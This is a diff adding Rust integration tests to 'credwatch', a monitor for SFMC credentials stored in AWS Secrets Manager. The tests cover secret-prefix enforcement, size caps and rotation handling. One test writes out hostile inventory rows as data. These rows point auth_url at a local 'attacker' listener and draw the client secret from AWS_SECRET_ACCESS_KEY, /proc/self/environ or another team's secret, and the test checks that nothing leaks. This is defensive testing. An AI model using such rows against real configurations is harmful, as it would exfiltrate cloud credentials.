@@ -8,7 +8,9 @@ use chrono::{DateTime, TimeDelta, Utc};
 use credwatch::check::{CheckKind, Health};
 use credwatch::inventory::{LoadOptions, parse_inventory};
 use credwatch::monitor::CycleSettings;
+use credwatch::outcome::{Kind, OutcomeClass};
 use credwatch::probe::{Prober, RetryPolicy};
+use credwatch::scan::run_scan;
 use credwatch::secrets_aws::AwsSecrets;
 use credwatch::sfmc::{ClientSettings, EndpointPolicy, SfmcClient};
 use credwatch::store::dynamo::DynamoStore;
@@ -57,10 +59,14 @@ struct World {
 
 impl World {
     async fn new(build: impl FnOnce(&Simulator) -> Vec<Spec>) -> World {
+        World::from_yaml(|sim, dir| inventory_yaml(dir, &build(sim))).await
+    }
+
+    /// A world whose inventory is the YAML `build` writes (files under the given directory).
+    async fn from_yaml(build: impl FnOnce(&Simulator, &std::path::Path) -> String) -> World {
         let sim = Simulator::start().await.unwrap();
         let scratch = Scratch::new("probe-fn");
-        let specs = build(&sim);
-        let yaml = inventory_yaml(scratch.path(), &specs);
+        let yaml = build(&sim, scratch.path());
         let inventory = parse_inventory(
             &yaml,
             &LoadOptions {
@@ -459,6 +465,9 @@ async fn the_binary_under_a_runtime_api_probes_and_never_leaks_secrets() {
     let mut env = child_env();
     env.push(("CREDWATCH_TABLE", world.table.clone()));
     env.push(("CREDWATCH_ALLOW_ANY_ENDPOINT", "1".into()));
+    env.push(("CREDWATCH_SECRET_PREFIX", "sfmc/".into()));
+    // Two of the three read their secret from a file, which only tests may allow.
+    env.push(("CREDWATCH_ALLOW_LOCAL_SECRETS", "1".into()));
     env.push(("CREDWATCH_LOG", "trace".into()));
     let function =
         FunctionProcess::spawn(env!("CARGO_BIN_EXE_credwatch-probe").as_ref(), &env).await;
@@ -493,6 +502,363 @@ async fn the_binary_under_a_runtime_api_probes_and_never_leaks_secrets() {
         );
         assert!(!items.contains(value.as_str()), "leaked into DynamoDB");
     }
+}
+
+/// Deployed without `CREDWATCH_SECRET_PREFIX` the probe refuses to start (an init error the
+/// heartbeat alarm catches), rather than run with no rule for which secrets it may read.
+#[tokio::test(flavor = "multi_thread")]
+async fn the_binary_refuses_to_start_without_a_secret_prefix() {
+    let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_credwatch-probe"));
+    command
+        .env_clear()
+        .envs(child_env())
+        .env("CREDWATCH_TABLE", "credwatch-no-prefix")
+        .env("AWS_LAMBDA_RUNTIME_API", "127.0.0.1:9")
+        .kill_on_drop(true);
+    // A guard against a hang, not a timing assertion: the binary exits at once.
+    let output = tokio::time::timeout(Duration::from_secs(60), command.output())
+        .await
+        .expect("the binary exits")
+        .unwrap();
+    assert!(!output.status.success());
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(
+        stderr.contains("CREDWATCH_SECRET_PREFIX is not set"),
+        "{stderr}"
+    );
+}
+
+/// A Secrets Manager value is size-capped too: a client secret over 4 KiB (the field of a JSON
+/// secret) is `secret_unavailable`, and SFMC never sees it.
+#[tokio::test(flavor = "multi_thread")]
+async fn an_oversized_secrets_manager_value_is_secret_unavailable() {
+    let secret_name = unique_name("sfmc/huge");
+    let world =
+        World::new(|sim| vec![Spec::on(sim, "crm-sync", &healthy()).with_aws_secret(&secret_name)])
+            .await;
+    world
+        .secrets_manager
+        .create_secret()
+        .name(&secret_name)
+        .secret_string(json!({"client_secret": "k".repeat(5000)}).to_string())
+        .send()
+        .await
+        .unwrap();
+    let summary = world.run(&event("scheduled.json"), t0()).await;
+    assert_eq!(
+        summary["by_class"],
+        json!({"secret_unavailable": 1}),
+        "{summary}"
+    );
+    let history = world.app.store.history("crm-sync", 1).await.unwrap();
+    assert!(
+        history[0].message.contains("longer than 4096 bytes"),
+        "{}",
+        history[0].message
+    );
+    assert!(!history[0].message.contains("kkkk"));
+    assert_eq!(world.sim.counts("crm-sync-client").token, 0);
+}
+
+/// A TCP server on 127.0.0.1 that counts connections and answers none: the "attacker's host".
+struct Listener {
+    url: String,
+    connections: std::sync::Arc<std::sync::atomic::AtomicUsize>,
+}
+
+impl Listener {
+    async fn start() -> Listener {
+        let socket = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let url = format!("http://{}/", socket.local_addr().unwrap());
+        let connections = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+        let counted = connections.clone();
+        tokio::spawn(async move {
+            while let Ok((stream, _)) = socket.accept().await {
+                counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+                drop(stream);
+            }
+        });
+        Listener { url, connections }
+    }
+
+    fn connections(&self) -> usize {
+        self.connections.load(std::sync::atomic::Ordering::SeqCst)
+    }
+}
+
+/// Table rows an attacker (or a careless apply) wrote: an auth_url on a foreign host, with the
+/// probe's own AWS key, its environment, and another team's Secrets Manager secret as "client
+/// secret". The deployed binary never reads any of them and nothing reaches that host: under
+/// the SFMC-only endpoint policy each row is `endpoint_not_allowed`; even where the process
+/// allows any endpoint, the secret policy makes each `secret_unavailable`. A legitimate row in
+/// the same table is probed normally.
+#[tokio::test(flavor = "multi_thread")]
+async fn hostile_rows_never_send_a_secret_to_a_foreign_host() {
+    let foreign = Listener::start().await;
+    let own_secret = unique_name("sfmc/crm-ops/crm-sync");
+    let other_team = unique_name("payments/stripe");
+    const OTHER_TEAMS_SECRET: &str = "Pay5ments7Secret9NotYours";
+    let world = World::from_yaml(|sim, dir| {
+        let legit = Spec::on(sim, "crm-sync", &healthy()).with_aws_secret(&own_secret);
+        let mut yaml = inventory_yaml(dir, &[legit]);
+        for (id, source) in [
+            ("steal-aws-key", "{ env: AWS_SECRET_ACCESS_KEY }".to_string()),
+            ("steal-environ", "{ file: /proc/self/environ }".to_string()),
+            (
+                "steal-other-team",
+                format!("{{ aws_secret: \"{other_team}\" }}"),
+            ),
+        ] {
+            yaml.push_str(&format!(
+                "  - id: {id}\n    name: {id}\n    owner: marketing-ops\n    severity: high\n    auth_url: {url}\n    client_id: attacker-client\n    client_secret: {source}\n",
+                url = foreign.url
+            ));
+        }
+        yaml
+    })
+    .await;
+    for (name, value) in [
+        (&own_secret, json!({"client_secret": SECRET}).to_string()),
+        (&other_team, OTHER_TEAMS_SECRET.to_string()),
+    ] {
+        world
+            .secrets_manager
+            .create_secret()
+            .name(name)
+            .secret_string(value)
+            .send()
+            .await
+            .unwrap();
+    }
+
+    let run = |allow_any: bool| {
+        let table = world.table.clone();
+        async move {
+            let mut env = child_env();
+            env.push(("CREDWATCH_TABLE", table));
+            env.push(("CREDWATCH_SECRET_PREFIX", "sfmc/".into()));
+            env.push(("CREDWATCH_LOG", "debug".into()));
+            if allow_any {
+                env.push(("CREDWATCH_ALLOW_ANY_ENDPOINT", "1".into()));
+            }
+            let function =
+                FunctionProcess::spawn(env!("CARGO_BIN_EXE_credwatch-probe").as_ref(), &env).await;
+            let payload = json!({"integrations": ["crm-sync", "steal-aws-key", "steal-environ", "steal-other-team"], "force": true});
+            let answer = function.invoke(payload).await;
+            let (stdout, stderr) = function.stop().await;
+            let summary = answer.unwrap_or_else(|err| panic!("invocation failed: {err}\n{stderr}"));
+            (summary, format!("{stdout}{stderr}"))
+        }
+    };
+
+    // The deployed default: SFMC auth hosts only. The simulator is not one either.
+    let (summary, logs) = run(false).await;
+    assert_eq!(summary["probed"], 4, "{summary}");
+    assert_eq!(
+        summary["by_class"],
+        json!({"endpoint_not_allowed": 4}),
+        "{summary}"
+    );
+    assert_eq!(foreign.connections(), 0, "nothing reached the foreign host");
+    assert_eq!(world.sim.counts("crm-sync-client").token, 0);
+    assert!(!logs.contains(OTHER_TEAMS_SECRET) && !logs.contains(SECRET));
+
+    // A process that allows any endpoint still reads only Secrets Manager under its prefix.
+    let (summary, logs) = run(true).await;
+    assert_eq!(
+        summary["by_class"],
+        json!({"ok": 1, "secret_unavailable": 3}),
+        "{summary}"
+    );
+    assert_eq!(foreign.connections(), 0, "nothing reached the foreign host");
+    assert!(!logs.contains(OTHER_TEAMS_SECRET) && !logs.contains(SECRET));
+
+    let history = world
+        .app
+        .store
+        .history("steal-other-team", 10)
+        .await
+        .unwrap();
+    assert_eq!(history.len(), 2, "{history:?}");
+    assert_eq!(history[0].class, OutcomeClass::SecretUnavailable);
+    assert!(
+        history[0].message.contains("outside sfmc/"),
+        "{}",
+        history[0].message
+    );
+    assert_eq!(history[1].class, OutcomeClass::EndpointNotAllowed);
+    let environ = world.app.store.history("steal-environ", 1).await.unwrap();
+    assert!(
+        environ[0].message.contains("local CLI"),
+        "{}",
+        environ[0].message
+    );
+    let items = scan_all(&world.table).await;
+    assert!(!items.contains(OTHER_TEAMS_SECRET));
+    // Sustained, these are the platform team's incidents, never the integration owner's.
+    assert_eq!(OutcomeClass::EndpointNotAllowed.kind(), Kind::Monitor);
+}
+
+/// A PutSecretValue that re-saves the same value is not a rotation: the 5-day expiry warning
+/// stays open. A changed value is: the countdown restarts and the warning resolves.
+#[tokio::test(flavor = "multi_thread")]
+async fn an_unchanged_resave_keeps_the_expiry_warning_and_a_changed_value_resets_it() {
+    const NEW_SECRET: &str = "New8Secret4After2Rotation";
+    let secret_name = unique_name("sfmc/crm-sync");
+    let world = World::from_yaml(|sim, dir| {
+        let spec = Spec::on(sim, "crm-sync", &healthy()).with_aws_secret(&secret_name);
+        // Expires 5 days after t0: inside the 7-day warning.
+        inventory_yaml(dir, &[spec]) + "    secret_expires_at: 2026-12-03\n"
+    })
+    .await;
+    let put = |value: &'static str| {
+        let client = world.secrets_manager.clone();
+        let name = secret_name.clone();
+        async move {
+            client
+                .put_secret_value()
+                .secret_id(name)
+                .secret_string(json!({"client_secret": value}).to_string())
+                .send()
+                .await
+                .unwrap();
+        }
+    };
+    world
+        .secrets_manager
+        .create_secret()
+        .name(&secret_name)
+        .secret_string(json!({"client_secret": SECRET}).to_string())
+        .send()
+        .await
+        .unwrap();
+    let change_at = |at: DateTime<Utc>| {
+        let mut change = event("put-secret-value.json");
+        change["detail"]["requestParameters"]["secretId"] = secret_name.clone().into();
+        change["detail"]["eventTime"] = at.to_rfc3339().into();
+        change["time"] = at.to_rfc3339().into();
+        change
+    };
+    let open_expiry = || async {
+        world
+            .app
+            .store
+            .open_incidents()
+            .await
+            .unwrap()
+            .into_iter()
+            .filter(|i| i.check == CheckKind::Expiry)
+            .collect::<Vec<_>>()
+    };
+
+    // The first probe records the baseline; the scan opens the 7-day warning.
+    assert_eq!(world.run(&event("scheduled.json"), t0()).await["ok"], 1);
+    let scan = run_scan(&world.app.store, t0()).await.unwrap();
+    assert_eq!(scan.opened, 1, "{scan:?}");
+    let warning = open_expiry().await;
+    assert_eq!(warning.len(), 1);
+    assert_eq!(warning[0].threshold_days, Some(7));
+
+    // The same value saved again: not a rotation.
+    put(SECRET).await;
+    let resaved = world
+        .run(&change_at(t0() + minutes(5)), t0() + minutes(5))
+        .await;
+    assert_eq!(resaved["rotations_recorded"], 0, "{resaved}");
+    assert_eq!(resaved["secret_changes_not_rotations"], 1, "{resaved}");
+    assert_eq!(resaved["ok"], 1, "still probed: {resaved}");
+    let record = world
+        .app
+        .store
+        .get_integration("crm-sync")
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!(record.secret_rotated_seen_at, None);
+    let scan = run_scan(&world.app.store, t0() + minutes(6)).await.unwrap();
+    assert_eq!((scan.resolved, scan.opened), (0, 0), "{scan:?}");
+    assert_eq!(open_expiry().await, warning, "the warning stays, unchanged");
+
+    // A new value (SFMC rotated it too): a rotation, the countdown restarts.
+    world.sim.set_client(
+        "crm-sync-client",
+        ClientConfig::healthy(NEW_SECRET, SYNC_SCOPES, 7281698),
+    );
+    put(NEW_SECRET).await;
+    let rotated_at = t0() + minutes(10);
+    let rotated = world.run(&change_at(rotated_at), rotated_at).await;
+    assert_eq!(rotated["rotations_recorded"], 1, "{rotated}");
+    assert_eq!(rotated["ok"], 1, "probed with the new value: {rotated}");
+    let record = world
+        .app
+        .store
+        .get_integration("crm-sync")
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!(record.secret_rotated_seen_at, Some(rotated_at));
+    let scan = run_scan(&world.app.store, rotated_at + minutes(1))
+        .await
+        .unwrap();
+    assert_eq!(scan.resolved, 1, "{scan:?}");
+    assert!(open_expiry().await.is_empty());
+
+    // An older event arriving late never moves the rotation time back.
+    put(SECRET).await;
+    let late = world
+        .run(&change_at(t0() + minutes(7)), t0() + minutes(12))
+        .await;
+    assert_eq!(late["rotations_recorded"], 0, "{late}");
+    let record = world
+        .app
+        .store
+        .get_integration("crm-sync")
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!(record.secret_rotated_seen_at, Some(rotated_at));
+}
+
+/// A container that cached the old value when the secret was rotated (its change event lost
+/// or not yet delivered) sees SFMC reject it; the confirming attempt reads Secrets Manager past
+/// the cache, works with the new value, and nobody is paged.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_cached_old_secret_never_confirms_a_credential_failure() {
+    const NEW_SECRET: &str = "New8Secret4After2Rotation";
+    let secret_name = unique_name("sfmc/crm-sync");
+    let world =
+        World::new(|sim| vec![Spec::on(sim, "crm-sync", &healthy()).with_aws_secret(&secret_name)])
+            .await;
+    world
+        .secrets_manager
+        .create_secret()
+        .name(&secret_name)
+        .secret_string(json!({"client_secret": SECRET}).to_string())
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(world.run(&event("scheduled.json"), t0()).await["ok"], 1);
+
+    // Rotated in SFMC and in Secrets Manager; this container still caches the old value.
+    world.sim.set_client(
+        "crm-sync-client",
+        ClientConfig::healthy(NEW_SECRET, SYNC_SCOPES, 7281698),
+    );
+    world
+        .secrets_manager
+        .put_secret_value()
+        .secret_id(&secret_name)
+        .secret_string(json!({"client_secret": NEW_SECRET}).to_string())
+        .send()
+        .await
+        .unwrap();
+    let now = json!({"integrations": ["crm-sync"], "force": true});
+    let summary = world.run(&now, t0() + minutes(1)).await;
+    assert_eq!(summary["ok"], 1, "confirmed with a fresh read: {summary}");
+    assert_eq!(summary["opened"], 0, "{summary}");
+    let history = world.app.store.history("crm-sync", 1).await.unwrap();
+    assert_eq!(history[0].attempts, 2, "the old value was rejected first");
+    assert_eq!(world.health("crm-sync").await, Health::Healthy);
 }
 
 /// Every item of the table as text (a Scan is fine in a test).
